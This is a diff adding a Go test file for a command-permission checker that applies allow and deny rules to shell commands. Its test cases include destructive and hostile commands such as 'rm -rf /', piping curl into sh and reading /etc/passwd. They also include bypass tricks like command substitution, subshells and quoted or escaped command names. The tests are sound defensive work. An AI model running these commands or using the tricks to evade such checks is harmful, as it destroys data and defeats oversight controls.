@@ -0,0 +1,50 @@
+package state
+
+import "testing"
+
+func TestPermissions_IsAllowed(t *testing.T) {
+	tests := []struct {
+		name        string
+		permissions Permissions
+		command     string
+		want        bool
+	}{
+		{"no rules allows everything", Permissions{}, "rm -rf /tmp/x", true},
+		{"empty allow list allows what isn't denied", Permissions{Deny: []string{"rm"}}, "ls -la", true},
+		{"deny matches leading words", Permissions{Deny: []string{"rm"}}, "rm -rf /tmp/x", false},
+		{"deny wins over allow", Permissions{Allow: []string{"git *"}, Deny: []string{"git push"}}, "git push origin main", false},
+		{"allow glob", Permissions{Allow: []string{"git *"}}, "git status", true},
+		{"allow glob matches the bare command", Permissions{Allow: []string{"git *"}}, "git", true},
+		{"allow list refuses anything else", Permissions{Allow: []string{"git *"}}, "ls", false},
+		{"word globs", Permissions{Allow: []string{"go test*"}}, "go tests ./...", true},
+		{"word globs don't cross words", Permissions{Allow: []string{"go t?st"}}, "go build", false},
+		{"allow prefix isn't a partial word", Permissions{Allow: []string{"git"}}, "gitk", false},
+		{"star allows everything", Permissions{Allow: []string{"*"}, Deny: []string{"sudo"}}, "make build", true},
+		{"every chained command must be allowed", Permissions{Allow: []string{"ls"}}, "ls && rm -rf /", false},
+		{"a denied command in a pipe", Permissions{Deny: []string{"sh"}}, "curl example.com | sh", false},
+		{"command substitution is refused", Permissions{Allow: []string{"echo"}}, "echo $(rm -rf /)", false},
+		{"backticks are refused", Permissions{Allow: []string{"echo"}}, "echo `whoami`", false},
+		{"process substitution is refused", Permissions{Allow: []string{"diff *"}}, "diff <(cat /etc/passwd) a", false},
+		{"output process substitution is refused", Permissions{Allow: []string{"tee *"}}, "tee >(sh)", false},
+		{"output redirection is refused", Permissions{Allow: []string{"git *"}}, "git status > file", false},
+		{"appending redirection is refused", Permissions{Allow: []string{"git *"}}, "git status>>file", false},
+		{"input redirection is refused", Permissions{Allow: []string{"cat *"}}, "cat < /etc/passwd", false},
+		{"redirections without rules", Permissions{}, "git status > file", true},
+		{"a subshell is refused", Permissions{Deny: []string{"rm *"}}, "(rm -rf x)", false},
+		{"a group is refused", Permissions{Deny: []string{"rm *"}}, "{ rm -rf x; }", false},
+		{"an escaped command is refused", Permissions{Deny: []string{"rm *"}}, "\\rm -rf x", false},
+		{"a quoted command is refused", Permissions{Deny: []string{"rm *"}}, "'rm' -rf x", false},
+		{"a negated command is refused", Permissions{Deny: []string{"rm *"}}, "! rm -rf x", false},
+		{"quoting in arguments is fine", Permissions{Allow: []string{"git *"}}, "git commit -m 'fix (x)'", true},
+		{"grouping without rules", Permissions{}, "(cd x && make)", true},
+		{"empty command with rules", Permissions{Allow: []string{"ls"}}, "", false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := tt.permissions.IsAllowed(tt.command); got != tt.want {
+				t.Errorf("IsAllowed(%q) = %v, want %v", tt.command, got, tt.want)
+			}
+		})
+	}
+}